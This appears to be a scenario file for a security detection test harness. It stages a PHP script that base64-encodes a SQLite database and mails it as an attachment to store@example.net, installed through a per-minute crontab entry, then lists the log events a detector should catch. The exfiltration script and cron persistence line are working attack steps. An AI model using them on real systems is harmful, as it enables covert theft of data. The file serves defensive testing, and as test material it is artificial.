# Nothing is attached on a command line, packed in a pipeline or spoken past the relay.
title="PHP script in a crontab mails a database in a message of its own making"
what="The crontab of dev runs a PHP script every minute; it reads a database of the home, builds a message with the file encoded in it, and hands it to mail(), which starts sendmail. Postfix delivers it to 203.0.113.10."
host=mx1.example.org user=dev daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  head -c 30000 /dev/urandom > /home/dev/db.sqlite
  printf '<?php $b=md5("x"); $d=chunk_split(base64_encode(file_get_contents("/home/dev/db.sqlite"))); mail("store@example.net","bk","--$b\\nContent-Type: application/octet-stream\\nContent-Transfer-Encoding: base64\\n\\n$d\\n--$b--","MIME-Version: 1.0\\nContent-Type: multipart/mixed; boundary=$b");\n' > /home/dev/bk.php
  chown dev: /home/dev/db.sqlite /home/dev/bk.php
}
act() {
  small_talk 1
  ssh_run dev 'echo "* * * * * php ~/bk.php" | crontab -'
  wait_log 'to=<store@example.net>.*status=sent' 80
  crontab -u dev -r
  small_talk 1
}
truth() {
  exec_step run 'php .*bk.php' 'cron starts the script'
  exec_step hand-in 'sendmail -t -i' 'PHP hands a message to sendmail'
  mail_step sent 'to=<store@example.net>.*status=sent' 'it leaves'
}
